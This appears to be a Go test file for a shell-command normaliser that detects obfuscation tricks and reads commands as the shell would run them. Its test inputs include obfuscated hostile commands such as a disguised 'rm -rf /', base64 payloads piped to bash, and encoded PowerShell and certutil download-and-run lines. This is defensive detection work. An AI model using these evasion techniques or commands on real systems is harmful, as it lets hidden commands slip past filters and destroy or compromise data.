package shellnorm

import (
	"strings"
	"testing"
)

func tricks(l Line) []Trick {
	var out []Trick
	for _, f := range l.Tricks {
		out = append(out, f.Trick)
	}
	return out
}

// Each trick is found where it writes a command name, and the command is
// read as the shell would run it.
func TestTricks(t *testing.T) {
	for _, c := range []struct {
		line  string
		trick Trick
		runs  string // a command the line runs, read plainly
	}{
		{`w\get -q http://example.org`, Escaped, "wget -q http://example.org"},
		{`c""url example.org`, QuoteSplit, "curl example.org"},
		{`'ch'"mod" 777 /etc`, QuoteSplit, "chmod 777 /etc"},
		{`$'\x63\x75\x72\x6c' example.org`, ANSIC, "curl example.org"},
		{`$'\143at' /etc/hosts`, ANSIC, "cat /etc/hosts"},
		{"$(printf '\\x6e\\x63') -l 9001", Substituted, "nc -l 9001"},
		{"`echo wget` example.org", Substituted, "wget example.org"},
		{"$(echo Y2F0 | base64 -d) /etc/hosts", Substituted, "cat /etc/hosts"},
		{"a=ch;b=mod;$a$b 777 x", Variable, "chmod 777 x"},
		{"P=/usr/bin/nc; $P -l 1", Variable, "/usr/bin/nc -l 1"},
		{"X=abcurl; ${X:2:4} example.org", Variable, "curl example.org"},
		{"cat${IFS}/etc/hosts", IFS, "cat /etc/hosts"},
		{"IFS=_;C=cat_/etc/hosts;$C", IFS, "cat /etc/hosts"},
		{"{wget,-q,example.org}", Brace, "wget -q example.org"},
		{"/usr/bin/c?rl example.org", Glob, "/usr/bin/c?rl example.org"},
		{"/???/b??h -c id", Glob, ""},
		{"ｗｇｅｔ example.org", Lookalike, "wget example.org"},
		{"сurl example.org", Lookalike, ""}, // Cyrillic с
		{"echo d2dldCBleGFtcGxlLm9yZw== | base64 -d | bash", Decoded, "wget example.org"},
		{"echo 6375726c206578616d706c652e6f7267 | xxd -r -p | sh", Decoded, "curl example.org"},
		{"eval $(echo Y3VybCBleGFtcGxlLm9yZw== | base64 --decode)", Decoded, "curl example.org"},
		{"bash -c \"$(echo aWQ= | base64 -d)\"", Decoded, ""},
		{"sudo -u root `printf 'r\\x6d'` -rf /", Substituted, ""},
	} {
		l := Parse(c.line)
		found := false
		for _, tr := range tricks(l) {
			found = found || tr == c.trick
		}
		if !found {
			t.Errorf("%q: tricks %v, want %q", c.line, tricks(l), c.trick)
		}
		if c.runs != "" && !strings.Contains(l.Text(), c.runs+"\n") {
			t.Errorf("%q reads as %q, want a line %q", c.line, l.Text(), c.runs)
		}
	}
}

// What people and agents write every day has none.
func TestNoTricks(t *testing.T) {
	for _, line := range []string{
		"ls -la /home/user/projects",
		`git commit -m "fix: handle 'quoted' names" && git push`,
		`"$HOME/bin/tool" --flag`,
		"'/opt/my app/run' --x",
		`\ls -la`,
		"while IFS= read -r line; do echo \"$line\"; done < file.txt",
		"IFS=, read -ra parts <<< \"$csv\"",
		`eval "$(ssh-agent -s)"`,
		`eval "$(pyenv init -)"`,
		"$(which python3) -m pip install -r requirements.txt",
		"$EDITOR notes.md",
		"cp config.yaml{,.bak}",
		"echo {1..5}",
		"find . -name '*.go' | xargs grep -n TODO",
		"[ -f .env ] && echo present",
		"[[ $x == y* ]] && echo ok",
		"python3 -c 'print(\"hé\")'",
		"echo 'héllo wörld' | tr a-z A-Z",
		"docker run --rm -e FOO=bar alpine:3 sh -c 'echo $FOO'",
		"printf '%s\\n' a b c | sort",
		"base64 -d < blob.b64 > blob.bin",
		"echo aGVsbG8= | base64 -d",
		"npm run build -- --mode=production",
		"cat <<'EOF' > x.sh\n#!/bin/sh\necho hi\nEOF",
		"kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
		"awk '{print $1}' access.log | sort | uniq -c",
		"curl -s https://api.github.com/repos/o/r | jq '.stargazers_count'",
	} {
		if l := Parse(line); len(l.Tricks) > 0 {
			t.Errorf("%q: tricks %v, want none", line, l.Tricks)
		}
	}
}

// Input that nests without end, or never closes, stops within bounds and
// says so.
func TestBounded(t *testing.T) {
	deep := strings.Repeat("$(", 1000) + "x" + strings.Repeat(")", 1000)
	if l := Parse(deep); !l.Broken {
		t.Errorf("deep nesting not reported broken")
	}
	if l := Parse("echo 'unterminated"); !l.Broken {
		t.Errorf("unterminated quote not reported broken")
	}
	big := strings.Repeat("a", MaxInput+10)
	if l := Parse(big); !l.Broken {
		t.Errorf("input past MaxInput not reported broken")
	}
	evals := strings.Repeat("eval ", 200) + "id"
	Parse(evals) // must return
}

func TestPipes(t *testing.T) {
	l := Parse("cat a | grep b | sh")
	if n := len(l.Commands); n != 3 {
		t.Fatalf("%d commands", n)
	}
	if l.Commands[2].PipedFrom != 1 || l.Commands[1].PipedFrom != 0 || l.Commands[0].PipedFrom != -1 {
		t.Errorf("pipes: %+v", l.Commands)
	}
}

// Shell grammar that looks like a trick is none: case patterns, and a
// PowerShell command line is read as commands.
func TestGrammar(t *testing.T) {
	l := Parse("case \"$OSTYPE\" in\n  darwin*|macos*) brew install jq ;;\n  linux*) apt-get install -y jq ;;\n  *) echo unknown ;;\nesac")
	if len(l.Tricks) > 0 {
		t.Errorf("case statement: tricks %v", l.Tricks)
	}
	if !strings.Contains(l.Text(), "brew install jq\n") || !strings.Contains(l.Text(), "apt-get install -y jq\n") {
		t.Errorf("case statement reads as %q", l.Text())
	}
	// "iwr https://example.org/a.ps1 | iex", UTF-16LE, base64.
	l = Parse("powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA==")
	if !strings.Contains(l.Text(), "iwr https://example.org/a.ps1\n") || len(l.Tricks) == 0 || l.Tricks[0].Trick != Decoded {
		t.Errorf("encoded PowerShell reads as %q, tricks %v", l.Text(), l.Tricks)
	}
	l = Parse(`cmd /c "certutil -urlcache -f http://example.org/a.exe a.exe"`)
	if !strings.Contains(l.Text(), "certutil -urlcache") {
		t.Errorf("cmd /c reads as %q", l.Text())
	}
}
